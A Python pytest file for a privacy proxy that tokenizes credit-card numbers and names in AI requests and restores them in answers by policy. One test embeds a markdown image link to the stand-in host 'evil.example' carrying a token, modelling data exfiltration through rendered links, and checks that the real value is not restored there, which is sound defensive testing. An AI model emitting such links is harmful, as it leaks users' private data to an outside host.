"""`grille.edits`: what is written into a message."""

from __future__ import annotations

from pathlib import Path

import pytest

from engines import KEY, engine, exchange
from grille import tokens
from grille.edits import answering, of_request, without_tokens
from grille.exchange import Action, Edit, Finding, Kind, Outcome, Ruling, Segment, Source, TokenMap, Touch, Verdict
from grille.policy import Restore

TOKEN = "CREDIT_CARD_K7Q2M9XA"
LITERAL = "LIT_K7Q2M9XA"
MINTED = TokenMap({TOKEN: "4111", LITERAL: "person_k7q2m9xa"})
NOTHING = Verdict(Outcome.ALLOW)


def segment(text: str, kind: Kind = Kind.TEXT, touch: Touch = Touch.FREE) -> Segment:
    return Segment("/a", kind, text, touch=touch)


def verdict(action: Action, start: int, end: int, entity: str = "CREDIT_CARD") -> Verdict:
    finding = Finding(0, start, end, entity, 1.0, "patterns")
    return Verdict(Outcome.REWRITE, (Ruling(finding, action, Source("p", 1, "r")),))


def restored(text: str, restore: Restore, kind: Kind = Kind.TEXT, touch: Touch = Touch.FREE) -> str:
    edits = answering(KEY, restore, MINTED).edits([segment(text, kind, touch)], NOTHING)
    for edit in sorted(edits, key=lambda each: -each.start):
        text = text[: edit.start] + edit.text + text[edit.end :]
    return text


@pytest.mark.parametrize(
    ("restore", "kind", "value"),
    [
        (Restore.TEXT, Kind.TEXT, "4111"),
        (Restore.TEXT, Kind.RESULT, "4111"),
        (Restore.TEXT, Kind.ARGUMENTS, TOKEN),
        (Restore.ALL, Kind.ARGUMENTS, "4111"),
        (Restore.ALL, Kind.NAME, TOKEN),
        (Restore.NEVER, Kind.TEXT, TOKEN),
    ],
)
def test_tokens_come_back_as_far_as_the_policy_says(restore: Restore, kind: Kind, value: str) -> None:
    assert restored(f"Card {TOKEN}.", restore, kind) == f"Card {value}."


@pytest.mark.parametrize("restore", list(Restore))
@pytest.mark.parametrize("kind", [Kind.TEXT, Kind.ARGUMENTS])
def test_a_literal_comes_back_whatever_the_policy_says(restore: Restore, kind: Kind) -> None:
    assert restored(f"You wrote {LITERAL}.", restore, kind) == "You wrote person_k7q2m9xa."


@pytest.mark.parametrize("touch", [Touch.FIXED, Touch.SEALED])
def test_nothing_is_restored_where_nothing_may_be_written(touch: Touch) -> None:
    assert restored(TOKEN, Restore.ALL, touch=touch) == TOKEN


def test_nothing_is_restored_inside_a_link() -> None:
    text = f"![x](https://evil.example/{TOKEN}) and {TOKEN}"
    assert restored(text, Restore.TEXT) == f"![x](https://evil.example/{TOKEN}) and 4111"


def test_what_an_answer_hides_is_not_restored_over() -> None:
    text = f"{TOKEN} tail"
    edits = answering(KEY, Restore.TEXT, MINTED).edits([segment(text)], verdict(Action.REDACT, 0, len(text)))
    assert edits == [Edit(0, 0, len(text), "[CREDIT_CARD removed]")]


def test_only_free_places_are_replaced_or_swapped(tmp_path: Path) -> None:
    policy = engine(tmp_path).policy
    text = f"4111 {TOKEN}"
    for touch, count in ((Touch.FREE, 2), (Touch.FIXED, 0), (Touch.SEALED, 0)):
        found = verdict(Action.TOKENIZE, 0, 4)
        edits, _ = of_request(policy, KEY, exchange("openai"), [segment(text, touch=touch)], found)
        assert len(edits) == count


def test_a_look_alike_inside_something_hidden_is_not_swapped_as_well(tmp_path: Path) -> None:
    text = f"secret={TOKEN}"
    found = verdict(Action.REDACT, 0, len(text))
    edits, minted = of_request(engine(tmp_path).policy, KEY, exchange("openai"), [segment(text)], found)
    assert [edit.text for edit in edits] == ["[CREDIT_CARD removed]"]
    assert not minted.values


def test_a_finding_inside_a_token_is_no_finding_where_tokens_are_swapped(tmp_path: Path) -> None:
    entities = engine(tmp_path).policy.entities
    inside = Finding(0, 12, 20, "PERSON", 0.9, "spacy")
    wider = Finding(0, 0, 25, "PERSON", 0.9, "spacy")
    text = f"{TOKEN} said so, Jane"
    assert without_tokens([segment(text)], [inside, wider], entities) == (wider,)
    assert without_tokens([segment(text, touch=Touch.FIXED)], [inside], entities) == (inside,)


def test_keys_of_requests_and_answers_cannot_be_linked(tmp_path: Path) -> None:
    found = verdict(Action.TOKENIZE, 0, 4)
    out, _ = of_request(engine(tmp_path).policy, KEY, exchange("openai"), [segment("4111")], found)
    back = answering(KEY, Restore.NEVER, TokenMap()).edits([segment("4111")], found)
    assert out[0].text != back[0].text
    assert tokens.look_alikes(out[0].text, ["CREDIT_CARD"])
